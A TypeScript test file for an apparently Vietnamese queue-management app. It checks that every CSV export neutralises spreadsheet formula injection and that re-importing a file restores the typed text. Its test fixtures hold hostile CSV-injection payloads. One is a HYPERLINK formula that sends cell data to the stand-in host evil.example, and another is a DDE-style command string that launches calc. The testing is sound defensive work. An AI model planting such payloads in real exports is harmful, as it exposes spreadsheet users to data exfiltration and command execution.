/**
 * CSV exports carry no live formula (issue 24, point 2). Hostile text is typed through every input a person can
 * type into that reaches a CSV — names of services, points, zones, help kinds and staff, a file code, a rating
 * comment, a procedure's every field — and every CSV Lượt writes is read back: no cell starts with = + - @ (or a
 * tab / CR, or their full-width forms) unless it is a plain number; each hostile text is there, made inert.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, inertCell, readInertCell } from '../../src/server/csv/csv-writer';
import type { ProcedureImportAnswer } from '../../src/shared/procedures';
import { REPORT_TABLES } from '../../src/shared/reports';
import { serviceDayOf } from '../../src/shared/time';
import { testServer, type TestServer } from '../helpers/server';

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"Xem chi tiết")',
  plus: '+SUM(1+1)*cmd',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)',
  wide: '＝1+1',
  multiline: '=1+1\nthứ hai',
};
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^-?\d+([.,]\d+)?$/;

let server: TestServer;
let day: string;

const ok = <T>(answer: { status: number; body: T }): T => {
  expect(answer.status, JSON.stringify(answer.body)).toBeLessThan(300);
  return answer.body;
};

async function csvOf(path: string): Promise<string[][]> {
  const response = await fetch(server.base + path, {
    headers: { authorization: `Bearer test-admin-token-0123456789abcdef` },
  });
  expect(response.status, path).toBe(200);
  const text = await response.text();
  return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
}

beforeAll(async () => {
  server = await testServer();
  const zone = ok(await server.api<{ id: number }>('/api/zones', { body: { nameVi: HOSTILE.at, nameEn: HOSTILE.at } }));
  const counter = ok(
    await server.api<{ id: number }>('/api/services', {
      body: { prefix: 'X', nameVi: HOSTILE.hyperlink, nameEn: HOSTILE.hyperlink, kind: 'counter', zoneId: zone.id },
    }),
  );
  const help = ok(
    await server.api<{ id: number }>('/api/services', {
      body: { prefix: 'Y', nameVi: HOSTILE.at, nameEn: HOSTILE.at, kind: 'help', zoneId: zone.id },
    }),
  );
  const kind = ok(
    await server.api<{ code: string }>('/api/help-kinds', {
      body: { code: 'hostile_help', nameVi: HOSTILE.multiline, nameEn: HOSTILE.multiline, serviceId: help.id },
    }),
  );
  const staff = ok(await server.api<{ id: number }>('/api/staff', { body: { name: HOSTILE.plus, role: 'staff' } }));
  const point = ok(
    await server.api<{ id: number }>('/api/service-points', {
      body: { number: 71, nameVi: HOSTILE.minus, nameEn: HOSTILE.minus, kind: 'counter', serviceIds: [counter.id] },
    }),
  );
  const desk = ok(
    await server.api<{ id: number }>('/api/service-points', {
      body: { number: 72, nameVi: HOSTILE.wide, nameEn: HOSTILE.wide, kind: 'help_desk', serviceIds: [help.id] },
    }),
  );
  const rater = ok(
    await server.api<{ token: string }>('/api/devices', {
      body: { name: 'Máy đánh giá', role: 'rating', servicePointId: point.id },
    }),
  ).token;

  // A visit at the counter: the staff member, a file code, a rating comment.
  const { ticket } = ok(await server.api('/api/tickets', { body: { serviceId: counter.id } }));
  ok(await server.api(`/api/tickets/${ticket.id}/call`, { body: { servicePointId: point.id, staffId: staff.id } }));
  ok(
    await server.api(`/api/tickets/${ticket.id}/resolve`, {
      body: { servicePointId: point.id, staffId: staff.id, outcome: 'completed', fileCode: HOSTILE.hyperlink },
    }),
  );
  ok(
    await server.api(`/api/tickets/${ticket.id}/rating`, {
      body: { level: 'dissatisfied', reasons: ['long_wait'], comment: HOSTILE.hyperlink },
      token: rater,
    }),
  );
  // A visit at the help desk with the hostile kind of help.
  const helped = ok(await server.api('/api/tickets', { body: { serviceId: help.id } })).ticket;
  ok(await server.api(`/api/tickets/${helped.id}/call`, { body: { servicePointId: desk.id } }));
  ok(
    await server.api(`/api/tickets/${helped.id}/resolve`, {
      body: { servicePointId: desk.id, outcome: 'completed', helpKind: kind.code, fileCode: HOSTILE.multiline },
    }),
  );
  // A procedure whose every typed field is hostile.
  ok(
    await server.api('/api/procedures', {
      body: {
        code: HOSTILE.at,
        nameVi: HOSTILE.hyperlink,
        nameEn: HOSTILE.plus,
        aliases: [HOSTILE.minus],
        serviceId: counter.id,
        documents: [HOSTILE.wide, HOSTILE.at],
        fee: HOSTILE.minus,
        timeLimit: HOSTILE.plus,
        resultAt: HOSTILE.at,
      },
    }),
  );
  day = serviceDayOf(Date.now());
}, 30_000);
afterAll(async () => server?.close());

function expectInert(grid: string[][], where: string) {
  for (const row of grid)
    for (const cell of row)
      expect(FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell), `${where}: live cell ${JSON.stringify(cell)}`).toBe(
        false,
      );
}

describe('every CSV Lượt writes', () => {
  it('report tables in both languages: no live formula, the hostile text there behind an apostrophe', async () => {
    const seen = new Set<string>();
    for (const lang of ['vi', 'en'] as const)
      for (const table of REPORT_TABLES) {
        const grid = await csvOf(`/api/reports/export.csv?from=${day}&to=${day}&table=${table}&lang=${lang}`);
        expectInert(grid, `${table} (${lang})`);
        for (const row of grid) for (const cell of row) seen.add(cell);
      }
    // Each hostile text reached a CSV whole (services appear as "X · <name>"), and where a cell starts with it, inert.
    for (const text of Object.values(HOSTILE))
      expect(
        [...seen].some((cell) => cell.includes(text)),
        text,
      ).toBe(true);
    for (const text of [HOSTILE.hyperlink, HOSTILE.plus, HOSTILE.minus, HOSTILE.wide, HOSTILE.multiline])
      expect([...seen], text).toContain(`'${text}`);
  });

  it('the procedure catalogue: inert, and imported back as it was typed', async () => {
    const response = await fetch(`${server.base}/api/procedures/export?format=csv`, {
      headers: { authorization: 'Bearer test-admin-token-0123456789abcdef' },
    });
    const bytes = Buffer.from(await response.arrayBuffer());
    const grid = Papa.parse<string[]>(bytes.toString('utf8').replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
    expectInert(grid, 'procedures');
    const row = grid.find((r) => r.includes(`'${HOSTILE.hyperlink}`))!;
    expect(row).toContain(`'${HOSTILE.plus}`);
    expect(row).toContain(`'${HOSTILE.at}`);

    // Re-importing the file changes nothing: the apostrophes Lượt added are read away.
    const dry = await server.api<ProcedureImportAnswer>('/api/procedures/import', {
      body: { fileName: 'danh-muc.csv', contentBase64: bytes.toString('base64'), dryRun: true },
    });
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ added: 0, updated: 0, problems: [] });
    expect(dry.body.unchanged).toBe(grid.length - 1);
  });
});

describe('the one cell writer', () => {
  it('makes would-be formulas inert and leaves plain text and numbers alone', () => {
    expect(inertCell('=1+1')).toBe("'=1+1");
    expect(inertCell('\t=1')).toBe("'\t=1");
    expect(inertCell('\r=1')).toBe("'\r=1");
    expect(inertCell('-5')).toBe('-5');
    expect(inertCell('3,25')).toBe('3,25');
    expect(inertCell(-7)).toBe('-7');
    expect(inertCell('- Giấy khai sinh')).toBe("'- Giấy khai sinh");
    expect(inertCell('Nguyễn Thị Lan')).toBe('Nguyễn Thị Lan');
    expect(inertCell(null)).toBe('');
    expect(readInertCell("'=1+1")).toBe('=1+1');
    // Quoted, so a comma or quote inside cannot open a new (live) cell.
    expect(csvText([['=1,=2', 'a', -3]])).toBe(`"'=1,=2",a,-3`);
    expect(readInertCell("'Tên")).toBe("'Tên");
  });
});
